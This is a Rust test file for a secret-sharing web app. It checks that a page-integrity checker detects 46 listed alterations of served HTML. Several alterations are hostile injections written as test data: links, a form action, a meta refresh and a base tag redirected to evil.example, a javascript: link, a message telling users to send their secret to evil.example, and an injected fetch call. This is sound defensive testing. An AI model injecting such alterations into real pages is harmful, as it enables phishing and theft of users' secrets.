//! Pages that were altered between server and client.

use super::*;

/// The page, the alteration, the text that is replaced, and its replacement.
const ALTERATIONS: [(AppPage, &str, &str, &str); 46] = [
    (AppPage::Home, "ping added to a link", "<a href=\"/\"", "<a ping=\"/collect\" href=\"/\""),
    (AppPage::Home, "attributionsrc added to a link", "<a href=\"/\"", "<a attributionsrc href=\"/\""),
    (AppPage::Home, "attribute added behind the others", "rel=\"noopener\">", "rel=\"noopener\" download>"),
    (AppPage::Home, "link target changed", "href=\"/security\"", "href=\"https://evil.example/\""),
    (
        AppPage::Secret,
        "link target changed to another page of the site",
        "href=\"/privacy\"",
        "href=\"/terms\"",
    ),
    (AppPage::Secret, "text added", "</main>", "We have moved: send your secret to evil.example</main>"),
    (AppPage::Secret, "text changed", "This does not open it.", "Enter the link at evil.example."),
    (AppPage::Secret, "id of an element changed", "<p id=\"exposed\"", "<p id=\"gone\""),
    (AppPage::Secret, "button removed", "<button id=\"copy\" type=\"button\">Copy</button>", ""),
    (AppPage::Secret, "element added", "</header>", "</header><a href=\"https://evil.example\">Open</a>"),
    (AppPage::Home, "hidden input added", "</fieldset>", "<input type=\"hidden\" name=\"x\"></fieldset>"),
    (
        AppPage::Home,
        "form attribute added",
        "<button id=\"create\"",
        "<button form=\"x\" formaction=\"//evil.example\" id=\"create\"",
    ),
    (AppPage::Home, "input type changed", "type=\"password\"", "type=\"text\""),
    (AppPage::Home, "attribute removed", " autocomplete=\"off\"", ""),
    (AppPage::About, "comment added", "<body>", "<body><!-- served by cache -->"),
    (AppPage::About, "class changed", "class=\"prose\"", "class=\"screen-only\""),
    (
        AppPage::About,
        "order changed",
        "<li><a href=\"/privacy\">Privacy</a></li><li><a href=\"/terms\">Terms of use</a></li>",
        "<li><a href=\"/terms\">Terms of use</a></li><li><a href=\"/privacy\">Privacy</a></li>",
    ),
    (AppPage::About, "white space added", "</body>", "\n</body>"),
    (AppPage::About, "text behind the end", "</html>", "</html><script src=\"/pkg/ikrypt.js\"></script>"),
    (AppPage::Guide, "title changed", "<title>", "<title>Moved: "),
    (
        AppPage::Guide,
        "description changed",
        "name=\"description\" content=\"",
        "name=\"description\" content=\"Moved. ",
    ),
    (
        AppPage::Guide,
        "http-equiv added",
        "<title>",
        "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\"><title>",
    ),
    (AppPage::Guide, "referrer policy loosened", "content=\"no-referrer\"", "content=\"unsafe-url\""),
    (AppPage::Guide, "structured data changed", "\"@type\":\"FAQPage\"", "\"@type\":\"WebPage\""),
    (AppPage::Guide, "base added", "<meta charset", "<base href=\"https://evil.example/\"><meta charset"),
    (AppPage::Guide, "character set changed", "charset=\"utf-8\"", "charset=\"utf-7\""),
    (AppPage::Home, "attribute doubled", "<main id=\"main\"", "<main id=\"evil\" id=\"main\""),
    (AppPage::Home, "limit changed", "data-max=\"1500000\"", "data-max=\"1500001\""),
    (AppPage::Home, "limit in words changed", "0 bytes of 1.5 MB", "0 bytes of 9.9 MB"),
    (AppPage::Home, "choice of the form changed", "<option value=\"3600\">", "<option value=\"3601\">"),
    (AppPage::Home, "island renamed", "data-component=\"", "data-component=\"x"),
    (AppPage::Home, "script changed", "app.hydrate();", "app.hydrate();fetch('/x');"),
    (
        AppPage::Home,
        "script added",
        "</head>",
        "<script nonce=\"AAECAwQFBgcICQoLDA0ODw\">x()</script></head>",
    ),
    (AppPage::Home, "nonce of one script changed", "nonce=\"AAEC", "nonce=\"BAEC"),
    (AppPage::Home, "style sheet changed", "/pkg/ikrypt.251.css", "/pkg/ikrypt.252.css"),
    (
        AppPage::Home,
        "canonical address changed",
        "rel=\"canonical\" href=\"https://secrets.example/\"",
        "rel=\"canonical\" href=\"https://evil.example/\"",
    ),
    (AppPage::Home, "site name with markup", "&lt;b&gt;", "<b>"),
    (AppPage::Home, "site name changed in one place", ">A \"B\"", ">A \"D\""),
    (AppPage::About, "operator with markup", "Sons &lt;script&gt;", "Sons <script>"),
    (AppPage::About, "contact changed", "href=\"https://example.org/it", "href=\"https://evil.example/it"),
    (AppPage::About, "contact that runs", "href=\"https://example.org/it", "href=\"javascript:it"),
    (AppPage::Terms, "operator's own text changed", "Be &lt;kind&gt;.", "Be kind."),
    (
        AppPage::Terms,
        "paragraph added to the operator's own text",
        "<p>Three.</p>",
        "<p>Three.</p><p>Four.</p>",
    ),
    (
        AppPage::Privacy,
        "text of the build replaced",
        "No accounts, no cookies",
        "All your accounts and cookies",
    ),
    (AppPage::NotFound, "page for unknown addresses changed", "</main>", "Moved.</main>"),
    (AppPage::Receipt, "button replaced", "id=\"burn\"", "id=\"burnt\""),
];

#[test]
fn altered_page_is_reported() {
    let manifest = manifest();
    let mut undetected = Vec::new();
    for (app_page, what, from, to) in ALTERATIONS {
        let page = &manifest.pages[AppPage::ALL.iter().position(|page| *page == app_page).unwrap()];
        let html = render(app_page, &custom_site(), NONCE);
        let altered = html.replacen(from, to, 1);
        assert!(altered != html, "{what}: there is no {from} on this page");
        if compare(&manifest, page, &custom_site(), &response(&manifest, page, altered.into_bytes()))
            .is_empty()
        {
            undetected.push(what);
        }
    }
    assert_eq!(undetected, Vec::<&str>::new());
}
